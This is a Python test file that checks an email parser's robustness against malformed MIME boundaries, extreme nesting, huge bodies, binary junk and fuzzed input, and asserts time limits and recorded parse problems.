def test_multipart_whose_boundary_never_appears_is_read_as_text() -> None:
    raw = raw_mail(
        "Hello, this is just text.", extra='Content-Type: multipart/mixed; boundary="nowhere"\n'
    )

    mail = parse_mail(raw)

    assert mail.text == "Hello, this is just text."
    assert any("boundary never appears" in problem for problem in mail.problems)


def test_boundary_that_only_prefixes_another_is_not_a_delimiter() -> None:
    raw = multipart(
        "outer",
        'Content-Type: multipart/alternative; boundary="outer-inner"\n\n'
        "--outer-inner\nContent-Type: text/plain\n\nInner text\n--outer-inner--",
    )

    mail = parse_mail(raw)

    assert mail.text == "Inner text"
    assert mail.problems == ()


def test_thousand_levels_of_nesting_are_read_only_to_the_limit() -> None:
    nested = bytearray(CUSTOMER_HEADERS.replace("\n", "\r\n").encode())
    for level in range(1000):
        nested += b'Content-Type: multipart/mixed; boundary="level%d"\r\n\r\n--level%d\r\n' % (
            level,
            level,
        )
    nested += b"Content-Type: text/plain\r\n\r\ntoo deep to read\r\n"
    for level in reversed(range(1000)):
        nested += b"--level%d--\r\n" % level

    started = time.perf_counter()
    mail = parse_mail(bytes(nested))

    assert time.perf_counter() - started < 1
    assert mail.subject == "Withdrawal stuck"
    assert mail.text == ""
    assert f"parts nested more than {MAX_NESTING_DEPTH} levels deep were not read" in mail.problems


def test_text_nested_within_the_limit_is_read() -> None:
    depth = MAX_NESTING_DEPTH - 1
    body = "".join(
        f'--l{level}\nContent-Type: multipart/mixed; boundary="l{level + 1}"\n\n'
        for level in range(depth - 1)
    )
    body += f"--l{depth - 1}\nContent-Type: text/plain\n\ndeep but readable\n"
    body += "".join(f"--l{level}--\n" for level in reversed(range(depth)))

    mail = parse_mail(raw_mail(body, extra='Content-Type: multipart/mixed; boundary="l0"\n'))

    assert mail.text == "deep but readable"
    assert mail.problems == ()


def test_ten_megabyte_text_part_is_read_in_linear_time() -> None:
    line = "The quick brown fox jumps over the lazy dog, again and again and again.\n"
    body = line * (10 * 1024 * 1024 // len(line))

    started = time.perf_counter()
    mail = parse_mail(raw_mail(body, extra="Content-Type: text/plain; charset=utf-8\n"))

    assert time.perf_counter() - started < 2
    assert len(mail.text) == len(body) - 1


def test_deeply_nested_html_is_flattened_rather_than_parsed_for_minutes() -> None:
    html = "<blockquote>" * 50_000 + "still here" + "</blockquote>" * 50_000

    started = time.perf_counter()
    mail = parse_mail(raw_mail(html, extra="Content-Type: text/html\n"))

    assert time.perf_counter() - started < 2
    assert mail.text.endswith("still here")
    assert any("flattened" in problem for problem in mail.problems)


def test_binary_garbage_after_the_headers_is_noted_not_fatal() -> None:
    garbage = bytes(range(256)) * 40

    mail = parse_mail(raw_mail(garbage))

    assert mail.subject == "Withdrawal stuck"
    assert "\x00" not in mail.text
    assert any("latin-1" in problem for problem in mail.problems)


def test_thousands_of_references_keep_the_root_and_the_newest() -> None:
    references = " ".join(f"<r{number}@example.com>" for number in range(2000))

    mail = parse_mail(raw_mail(extra=f"References: {references}\n"))

    assert len(mail.references) == 100
    assert mail.references[0] == "r0@example.com"
    assert mail.references[1] == "r1901@example.com"
    assert mail.references[-1] == "r1999@example.com"


def small_sample_mail() -> bytes:
    return multipart(
        "sample",
        "Content-Type: text/plain; charset=gb2312\nContent-Transfer-Encoding: base64\n\n"
        + base64.b64encode("你好，提现没有到账".encode("gbk")).decode(),
        'Content-Type: image/png; name="a.png"\nContent-ID: <a@b>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=',
        "Content-Type: message/rfc822\n\nFrom: x@example.com\nSubject: inner\n\ninner text",
    )


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=3000))
def test_random_bytes_never_raise_anything_but_mail_parse_error(raw: bytes) -> None:
    try:
        mail = parse_mail(raw)
    except MailParseError:
        return
    assert isinstance(mail.text, str)


@settings(max_examples=300, deadline=None)
@given(
    position=st.integers(min_value=0, max_value=len(small_sample_mail())),
    junk=st.binary(max_size=40),
    cut=st.integers(min_value=0, max_value=len(small_sample_mail())),
)
def test_damaged_mail_never_raises_anything_but_mail_parse_error(
    position: int, junk: bytes, cut: int
) -> None:
    sample = small_sample_mail()
    damaged = (sample[:position] + junk + sample[position:])[: max(cut, 1)]
    try:
        mail = parse_mail(damaged)
    except MailParseError:
        return
    assert "\x00" not in mail.text
    assert "\n" not in mail.subject
